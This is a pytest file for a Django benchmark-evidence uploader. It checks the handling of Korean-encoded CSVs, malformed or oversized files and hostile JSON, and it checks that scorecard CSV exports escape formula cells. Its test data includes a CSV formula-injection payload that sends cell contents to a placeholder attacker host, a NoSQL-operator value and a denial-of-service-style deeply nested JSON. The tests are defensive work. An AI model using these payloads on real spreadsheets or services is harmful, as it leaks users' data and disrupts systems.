"""Benchmark evidence files as staff really have them: CSV saved by Korean Excel (CP949), files in an
unknown encoding, hostile JSON, files too large. Each gets a clear message and changes nothing; none
is a 500. And the CSV exports open safely in a spreadsheet."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command

from evaluation import evidence
from evaluation.models import BenchmarkResult

pytestmark = pytest.mark.django_db


def rows_for(entries) -> list[dict[str, str]]:
    return [
        {
            "team": e.team.name,
            "model": e.endpoint.name,
            "category": "common",
            "benchmark": "KMMLU 한국어",
            "version": "2025",
            "score": "70",
            "target_score": "",
            "stderr": "",
            "licence": "공공누리 1유형",
            "harness": "lm-eval",
            "harness_version": "0.4.9",
            "date": "2026-10-01",
            "source_url": "https://example.org/r",
        }
        for e in entries
    ]


def as_csv(rows) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=evidence.COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def upload(client, name: str, content: bytes):
    return client.post("/staff/rounds/r1/evidence/benchmarks/", {"file": SimpleUploadedFile(name, content)})


@pytest.mark.parametrize("encoding", ["cp949", "euc-kr", "utf-8", "utf-8-sig", "utf-16"])
def test_korean_csv_in_the_encodings_excel_saves_is_read(client, contest, people, encoding):
    _, entries = contest
    client.force_login(people["admin"])
    response = upload(client, "bench.csv", as_csv(rows_for(entries)).encode(encoding))
    assert response.status_code == 302
    assert set(BenchmarkResult.objects.values_list("benchmark", flat=True)) == {"KMMLU 한국어"}
    assert BenchmarkResult.objects.count() == 3


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        # Latin-1 (a mislabelled export): CP949 would read it as nonsense Hangul and hanja.
        ("bench.csv", "team,model\nCafé Müller,Modèle été\n".encode("latin-1"), "문자 인코딩"),
        ("bench.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", "문자 인코딩"),
        ("bench.csv", b"team,model\nA\x00B,x\n", "문자 인코딩"),  # a NUL: binary, or UTF-16 without a BOM
        ("bench.json", ("[" * 100_000 + "]" * 100_000).encode(), "너무 깊게 중첩"),
        ("bench.json", json.dumps([{"team": {"$ne": ""}}]).encode(), "목록이나 객체는 받지 않습니다"),
    ],
)
def test_unreadable_files_get_a_message_and_change_nothing(client, contest, people, name, content, message):
    client.force_login(people["admin"])
    response = upload(client, name, content)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert BenchmarkResult.objects.count() == 0


def test_a_file_over_the_limit_is_refused_before_it_is_read(client, contest, people, settings):
    _, entries = contest
    settings.EVIDENCE_MAX_UPLOAD_BYTES = 1024
    client.force_login(people["admin"])
    content = as_csv(rows_for(entries) * 20).encode()
    response = upload(client, "bench.csv", content)
    assert response.status_code == 400
    html = response.content.decode()
    assert "파일이 너무 큽니다" in html and "1.0\xa0KB까지" in html
    assert BenchmarkResult.objects.count() == 0


def test_the_command_reads_cp949_and_refuses_the_same_files(contest, tmp_path, settings):
    _, entries = contest
    good = tmp_path / "bench.csv"
    good.write_bytes(as_csv(rows_for(entries)).encode("cp949"))
    out = io.StringIO()
    call_command("import_benchmarks", "--round", "r1", str(good), stdout=out)
    assert "Imported 3" in out.getvalue()
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    with pytest.raises(CommandError, match="너무 깊게 중첩"):
        call_command("import_benchmarks", "--round", "r1", str(deep))
    settings.EVIDENCE_MAX_UPLOAD_BYTES = 100
    with pytest.raises(CommandError, match="파일이 너무 큽니다"):
        call_command("import_benchmarks", "--round", "r1", str(good))


def test_the_scorecard_csv_defuses_formula_cells(client, contest, people):
    _, entries = contest
    team = entries[0].team
    team.name = '=HYPERLINK("http://evil.example/?"&A1,"점수 보기")'
    team.save()
    client.force_login(people["reviewer"])
    content = client.get("/staff/rounds/r1/scorecard.csv").content.decode("utf-8")
    assert content.startswith("\ufeff")
    cells = [row[0] for row in csv.reader(io.StringIO(content.removeprefix("\ufeff")))]
    assert "'" + team.name in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
